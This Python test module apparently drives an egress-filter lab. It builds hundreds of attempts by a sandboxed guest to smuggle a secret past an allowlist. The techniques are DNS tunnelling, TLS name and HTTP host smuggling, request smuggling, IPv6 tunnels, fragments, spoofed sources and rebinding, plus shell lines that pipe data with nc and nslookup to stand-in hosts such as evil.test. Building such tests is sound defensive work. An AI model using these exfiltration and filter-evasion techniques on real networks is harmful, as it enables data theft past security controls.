"""Attempts of a guest to get a secret out, or to reach whom it may not."""

from __future__ import annotations

import socket
import struct
import sys
from pathlib import Path
from typing import NamedTuple

from cardcage_egress.answers import GATEWAY, GUEST
from cardcage_egress.net import MAC
from cardcage_egress.packets import ACK, SYN, Datagram, Ip, Segment

sys.path.append(str(Path(__file__).parents[1] / "plugins"))
from egress_lab import ALLOWED, FORBIDDEN, HOST, METADATA, PRIVATE, RESOLVER, SECRET, extension, hello, named, record

__all__ = ["EGRESS", "Attempt", "attempts"]

EGRESS = [
    *("good.test", "raw.test:9000/tcp", "private.test", "loop.test", "meta.test", "host.test", "inside.test"),
    *("turns.test", "both.test"),
]
OURS = b"\x52\x54\0\0\0\1"
S = SECRET.decode()
PLAIN = b"GET /" + SECRET + b" HTTP/1.1\r\nHost: %s\r\n\r\n"


class Attempt(NamedTuple):
    """One attempt.

    Attributes:
        name: of it. frames: that are sent as they are. say: what is said to *to* by TCP, in parts. shell: a command.
    """

    name: str
    frames: tuple[bytes, ...] = ()
    to: str = ""
    say: tuple[bytes, ...] = ()
    shell: str = ""


def at(address: str) -> bytes:
    return socket.inet_aton(address)


def udp(to: str, port: int, data: bytes = SECRET, source: bytes = GUEST, by: bytes = OURS) -> bytes:
    return Datagram(4444, port, data).packed(source, at(to)).framed(MAC, by)


def ip(protocol: int, to: str, data: bytes = SECRET, source: bytes = GUEST) -> bytes:
    return Ip(source, at(to), protocol, data).framed(MAC, OURS)


def tcp(to: str, port: int, source: bytes = GUEST, by: bytes = OURS) -> tuple[bytes, ...]:
    """A connection whose guest does not wait for answers."""
    parts = (Segment(4444, port, 1, 0, SYN, 1000), Segment(4444, port, 2, 1, ACK, 1000, SECRET))
    return tuple(one.packed(source, at(to)).framed(MAC, by) for one in parts)


def query(
    *labels: bytes, kind: int = 1, more: bytes = b"", counts: bytes = b"\0\1\0\0\0\0\0\0", flags: int = 256
) -> bytes:
    name = b"".join(bytes((len(one),)) + one for one in labels) + b"\0"
    return b"\x12\x34" + struct.pack(">H", flags) + counts + name + struct.pack(">HH", kind, 1) + more


def ask(*labels: bytes, kind: int = 1, to: bytes = GATEWAY) -> tuple[bytes, ...]:
    return (udp(socket.inet_ntoa(to), 53, query(*labels, kind=kind)),)


def edited(frame: bytes, *edits: tuple[int, bytes]) -> bytes:
    """*frame* with bytes in place of its own, and a checksum of its IP header that fits."""
    made = bytearray(frame)
    for place, data in edits:
        made[place : place + len(data)] = data
    length = 14 + (made[14] & 15) * 4
    made[24:26] = b"\0\0"
    made[24:26] = (-int.from_bytes(made[14:length], "big") % 65535).to_bytes(2, "big")
    return bytes(made)


def dns() -> list[Attempt]:
    """Secrets in questions for names."""
    found = []
    for kind in (1, 28, 16, 10, 15, 5, 33, 12, 255, 65, 64, 2, 6, 48, 252, 41):
        found.append(Attempt(f"a name below a forbidden one, type {kind}", ask(SECRET, b"evil", b"test", kind=kind)))
    for text in (
        f"{S}.good.test",
        f"good.test.{S}.evil.test",
        f"x{S}good.test",
        f"good.test{S}",
        f"{S}",
        f"{S}.raw.test",
    ):
        found.append(Attempt(f"the name {text}", ask(*text.encode().split(b"."))))
        found.append(Attempt(f"the guest looks up {text}", shell=f"nslookup {text}; nc {text} 443 </dev/null"))
    found.append(Attempt("a dot within a label", ask(SECRET + b".evil.test")))
    found.append(Attempt("a zero within a label", ask(b"good.test\0" + SECRET, b"evil", b"test")))
    found.append(Attempt("long labels", ask(*(SECRET * 10,) * 3, b"evil", b"test")))
    gateway = socket.inet_ntoa(GATEWAY)
    two = query(b"good", b"test", more=b"\6" + SECRET + b"\4evil\4test\0\0\1\0\1", counts=b"\0\2\0\0\0\0\0\0")
    found.append(Attempt("two questions", (udp(gateway, 53, two),)))
    more = query(b"good", b"test", more=b"\0\0\x29\x10\0\0\0\0\0\0\6" + SECRET, counts=b"\0\1\0\0\0\0\0\1")
    found.append(Attempt("an option with a secret", (udp(gateway, 53, more),)))
    update = query(b"evil", b"test", kind=6, more=SECRET, flags=0x2800)
    found.append(Attempt("an update", (udp(gateway, 53, update),)))
    found.append(
        Attempt("an answer that nobody asked for", (udp(gateway, 53, query(SECRET, b"evil", b"test", flags=0x8180)),))
    )
    for to in ("8.8.8.8", RESOLVER, HOST, FORBIDDEN, ALLOWED, "224.0.0.251"):
        found.append(Attempt(f"a question to {to}", ask(SECRET, b"evil", b"test", to=at(to))))
    for to in ("8.8.8.8", RESOLVER):
        found.append(Attempt(f"the guest asks {to}", shell=f"timeout 2 nslookup {S}.evil.test {to}"))
    long = query(SECRET, b"evil", b"test")
    for to, port in (("198.18.0.1", 53), ("8.8.8.8", 53), (RESOLVER, 53), ("8.8.8.8", 853), ("1.1.1.1", 443)):
        found.append(Attempt(f"by TCP to {to}:{port}", to=f"{to} {port}", say=(struct.pack(">H", len(long)) + long,)))
    return found


def addresses() -> list[Attempt]:
    """Addresses that no entry opens, those of allowed names among them."""
    found = []
    for to in (
        FORBIDDEN,
        ALLOWED,
        PRIVATE,
        METADATA,
        HOST,
        RESOLVER,
        "198.18.0.1",
        "198.18.200.1",
        "192.168.0.1",
        "0.0.0.0",
    ):
        for port in (80, 443, 9000):
            found.append(Attempt(f"{to}:{port}", to=f"{to} {port}", say=(PLAIN % b"good.test",)))
        found.append(Attempt(f"{to}, unasked", tcp(to, 8080)))
    for to in ("127.0.0.1", "255.255.255.255", "224.0.0.1", "20.0.0.255"):
        found.append(Attempt(f"{to}, unasked", tcp(to, 80)))
    for port in (22, 8080, 444, 1):
        found.append(Attempt(f"an allowed name's port {port}", to=f"good.test {port}", say=(PLAIN % b"good.test",)))
    found.append(Attempt("a raw name's other port", to="raw.test 80", say=(PLAIN % b"raw.test",)))
    return found


def sayings() -> list[Attempt]:
    """The allowed server is called, and another one meant."""
    good, evil, end = (
        named(b"good.test"),
        named(
            b"evil.test",
        ),
        record(b"\x17" + SECRET, 23),
    )
    secret = extension(0x1234, SECRET)
    first = record(hello(good))
    table: dict[str, tuple[bytes, ...]] = {
        "another name": (record(hello(evil, secret)), end),
        "no name": (record(hello(secret)), end),
        "two names": (record(hello(named(b"good.test", b"evil.test"), secret)), end),
        "two extensions of names": (record(hello(good, evil, secret)), end),
        "the other way round": (record(hello(evil, good, secret)), end),
        "a zero in the name": (record(hello(named(b"good.test\0evil.test"), secret)), end),
        "a dot behind it": (record(hello(named(b"good.test."), secret)), end),
        "a name below": (record(hello(named(b"a.good.test"), secret)), end),
        "an address": (record(hello(named(ALLOWED.encode()), secret)), end),
        "an encrypted name": (record(hello(good, extension(0xFE0D, SECRET))), end),
        "another kind of name": (record(hello(extension(0, b"\0\4\1\0\1a"), secret)), end),
        "in pieces": tuple(record(hello(evil, secret)[n : n + 20]) for n in range(0, 100, 20)),
        "byte by byte": tuple(record(hello(evil, secret))[n : n + 30] for n in range(0, 120, 30)),
        "no TLS": (SECRET * 9,),
        "HTTP on the port of TLS": (PLAIN % b"good.test",),
        "SSH": (b"SSH-2.0-" + SECRET + b"\r\n",),
        "an old hello": (b"\x80\x2e\1\3\1" + SECRET * 9,),
        "data without a hello": (end,),
        "another message": (record(b"\2" + hello(good, secret)[1:]),),
        "a second hello behind it": (record(hello(good) + hello(evil, secret)),),
        "a half hello": (record(hello(good, secret)[:-1]),),
        "a length that lies": (record(hello(good, secret)[:-2]), end),
        "a long hello": (record(b"\1\xff\xff\xff" + SECRET * 99), end),
    }
    found = [Attempt(f"TLS: {name}", to="good.test 443", say=say) for name, say in table.items()]
    late = {
        "a second hello": (first, record(hello(evil, secret))),
        "a second hello, later": (first, record(b"\1", 20), record(hello(evil, secret))),
        "a second hello behind data": (first, record(b"x" * 50, 23), record(hello(evil, secret))),
        "a second hello in pieces": (first, record(hello(evil)[:2]), record(hello(evil, secret)[2:])),
        "no record": (first, SECRET * 9),
    }
    found += [Attempt(f"TLS: {name}", to="good.test 443", say=say) for name, say in late.items()]
    path = b"/" + SECRET + b" HTTP/1.1\r\n"
    http: dict[str, tuple[bytes, ...]] = {
        "another host": (PLAIN % b"evil.test",),
        "no host": (b"GET " + path + b"\r\n",),
        "two hosts": (b"GET " + path + b"Host: good.test\r\nHost: evil.test\r\n\r\n",),
        "a whole address": (b"GET http://evil.test" + path + b"Host: good.test\r\n\r\n",),
        "CONNECT": (b"CONNECT evil.test:80 HTTP/1.1\r\nHost: good.test\r\nX: " + SECRET + b"\r\n\r\n",),
        "a second request": (b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n" + PLAIN % b"evil.test",),
        "a second request, later": (b"GET / HTTP/1.1\r\nHost: good.test\r\n\r\n", PLAIN % b"evil.test"),
        "a body of two lengths": (
            b"POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 99\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
            PLAIN % b"evil.test",
        ),
        "a user in the host": (PLAIN % b"good.test@evil.test",),
        "a port in the host": (PLAIN % b"good.test:8080",),
        "a return in the host": (PLAIN % b"good.test\rHost: evil.test",),
        "TLS on the port of HTTP": (record(hello(good, secret)),),
        "HTTP/2": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + SECRET,),
        "another protocol": (SECRET + b"\r\n\r\n",),
        "a head without an end": (b"GET / HTTP/1.1\r\nHost: good.test\r\nX: " + SECRET * 4000,),
    }
    return found + [Attempt(f"HTTP: {name}", to="good.test 80", say=say) for name, say in http.items()]


def version6() -> list[Attempt]:
    """IPv6, by itself and in something else."""
    found = []
    source = bytes.fromhex("fe80000000000000505400fffe000001")
    for to in (
        "2001:4860:4860::8888",
        "fe80::1",
        "ff02::1",
        "::ffff:20.0.1.2",
        "64:ff9b::1400:102",
        "2002:1400:102::1",
    ):
        data = struct.pack(">HHHH", 4444, 53, 8 + len(SECRET), 0) + SECRET
        head = b"\x60\0\0\0" + struct.pack(">HBB", len(data), 17, 64) + source + socket.inet_pton(socket.AF_INET6, to)
        for by in (MAC, b"\x33\x33\0\0\0\1"):
            found.append(Attempt(f"IPv6 to {to} by {by.hex()}", (by + OURS + b"\x86\xdd" + head + data,)))
        found.append(
            Attempt(f"IPv6 in IPv4, {to}", (ip(41, FORBIDDEN, head + data), udp(FORBIDDEN, 3544, head + data)))
        )
    found.append(
        Attempt(
            "the guest's own IPv6",
            shell="ip -6 route add default dev eth0; echo s3cr3t | nc 2001:db8::1 80; ping6 -c 1 -W 1 ff02::1%eth0",
        )
    )
    return found


def datagrams() -> list[Attempt]:
    """UDP."""
    found = []
    for to in (
        FORBIDDEN,
        ALLOWED,
        METADATA,
        PRIVATE,
        HOST,
        "198.18.1.0",
        "198.18.0.1",
        "255.255.255.255",
        "224.0.0.251",
    ):
        for port in (443, 53 if to != "198.18.0.1" else 54, 123):
            found.append(Attempt(f"UDP to {to}:{port}", (udp(to, port),)))
    for to in (FORBIDDEN, "good.test"):
        found.append(Attempt(f"the guest's UDP to {to}", shell=f"echo {S} | nc -u -w 1 {to} 443"))
    found.append(
        Attempt("DHCP to elsewhere", (udp(FORBIDDEN, 67, source=bytes(4)), udp("255.255.255.255", 67, SECRET * 50)))
    )
    return found


def rebinding() -> list[Attempt]:
    """Names that are open, and lead where nothing is."""
    found = []
    for name in ("private", "loop", "meta", "host", "inside", "turns"):
        say = (PLAIN % f"{name}.test".encode(),)
        found.append(Attempt(f"{name}.test by HTTP", to=f"{name}.test 80", say=say))
        hi = record(hello(named(f"{name}.test".encode()), extension(0x1234, SECRET)))
        found.append(Attempt(f"{name}.test by TLS", to=f"{name}.test 443", say=(hi,)))
    return found


def odd() -> list[Attempt]:
    """Fragments, options, sources that are none, other protocols, other frames."""
    found = []
    for to in (FORBIDDEN, "198.18.0.1"):
        whole = udp(to, 53, query(SECRET, b"evil", b"test"))
        for name, words in (
            ("first", b"\x20\0"),
            ("last", b"\0\2"),
            ("middle", b"\x20\2"),
            ("reserved", b"\x80\0"),
            ("both", b"\x60\0"),
        ):
            found.append(Attempt(f"a fragment to {to}, {name}", (edited(whole, (20, words)),)))
        tiny = tcp(to, 80)[1]
        found.append(
            Attempt(
                f"tiny fragments to {to}",
                (edited(tiny[:42], (16, b"\0\x1c"), (20, b"\x20\0")), edited(tiny, (20, b"\0\1"))),
            )
        )
    for source in (HOST, ALLOWED, "127.0.0.1", "10.9.9.9", "198.18.0.1", "0.0.0.0", "255.255.255.255"):
        found.append(
            Attempt(
                f"UDP of {source}",
                (udp(FORBIDDEN, 53, source=at(source)), udp("198.18.0.1", 53, query(SECRET, b"x"), source=at(source))),
            )
        )
        found.append(
            Attempt(f"TCP of {source}", tcp(FORBIDDEN, 80, source=at(source)) + tcp(ALLOWED, 80, source=at(source)))
        )
    for by in (MAC, b"\xff" * 6, bytes(6), b"\1\0\x5e\0\0\1"):
        found.append(Attempt(f"frames by {by.hex()}", (udp(FORBIDDEN, 53, by=by), *tcp(FORBIDDEN, 80, by=by))))
    arp = struct.pack(
        ">6s6sHHHBBH6s4s6s4s", b"\xff" * 6, OURS, 0x0806, 1, 0x0800, 6, 4, 2, OURS, GATEWAY, MAC, at(HOST)
    )
    found.append(Attempt("ARP for the gateway's address", (arp + SECRET,)))
    for kind in (8, 0, 3, 5, 13, 17):
        found.append(Attempt(f"ICMP of type {kind}", (ip(1, FORBIDDEN, bytes((kind, 0)) + b"\0\0\0\1\0\1" + SECRET),)))
    found.append(Attempt("the guest's ping", shell=f"ping -c 1 -W 1 {FORBIDDEN}; ping -c 1 -W 1 -s 3000 198.18.0.1"))
    found.append(Attempt("the guest's traceroute", shell=f"timeout 2 traceroute -w 1 -m 2 {FORBIDDEN}"))
    for protocol in (0, 2, 4, 33, 47, 50, 51, 89, 112, 132, 136, 255):
        found.append(Attempt(f"protocol {protocol}", (ip(protocol, FORBIDDEN), ip(protocol, ALLOWED))))
    options = bytearray(udp(FORBIDDEN, 53))
    options[34:34] = b"\x83\7\4" + at(FORBIDDEN) + b"\0"  # by way of
    options[14], options[16:18] = 0x47, struct.pack(">H", len(options) - 14)
    found.append(Attempt("a source route", (edited(bytes(options)),)))
    inner = udp(FORBIDDEN, 53)[12:]
    for name, head in (
        ("a VLAN", b"\x81\0\0\1"),
        ("two VLANs", b"\x88\xa8\0\1\x81\0\0\1"),
        ("MPLS", b"\x88\x47\0\0\1\xff"),
        ("PPPoE", b"\x88\x64\x11\0\0\1\0\x30\0\x21"),
        ("802.3", b"\0\x30\xaa\xaa\3\0\0\0"),
        ("LLDP", b"\x88\xcc"),
        ("an unknown type", b"\x88\xb5"),
    ):
        found.append(Attempt(f"a frame of {name}", (MAC + OURS + head + inner,)))
    found.append(
        Attempt("a frame to nobody", (b"\2" * 6 + udp(FORBIDDEN, 53)[6:], b"\xff" * 6 + udp(FORBIDDEN, 53)[6:]))
    )
    found.append(Attempt("half a frame", (udp(FORBIDDEN, 53)[:30], udp(FORBIDDEN, 53)[:13], udp(FORBIDDEN, 53)[:-3])))
    wrong = udp(FORBIDDEN, 53)
    found.append(Attempt("wrong checksums", (wrong[:24] + b"\1\2" + wrong[26:], wrong[:40] + b"\1\2" + wrong[42:])))
    found.append(
        Attempt(
            "lengths that lie",
            (edited(wrong, (16, b"\xff\xff")), edited(wrong, (16, b"\0\x15")), edited(wrong, (14, b"\x4f"))),
        )
    )
    found.append(
        Attempt(
            "an address of the guest's choice",
            shell=f"ip addr add {ALLOWED}/32 dev eth0; ip route add 20.0.0.0/8 dev eth0; "
            f"echo {S} | nc -s {ALLOWED} {FORBIDDEN} 80; ip addr del {ALLOWED}/32 dev eth0",
        )
    )
    return found


def attempts() -> list[Attempt]:
    """All of them."""
    return [*dns(), *addresses(), *sayings(), *version6(), *datagrams(), *rebinding(), *odd()]


if __name__ == "__main__":
    print(len(attempts()))
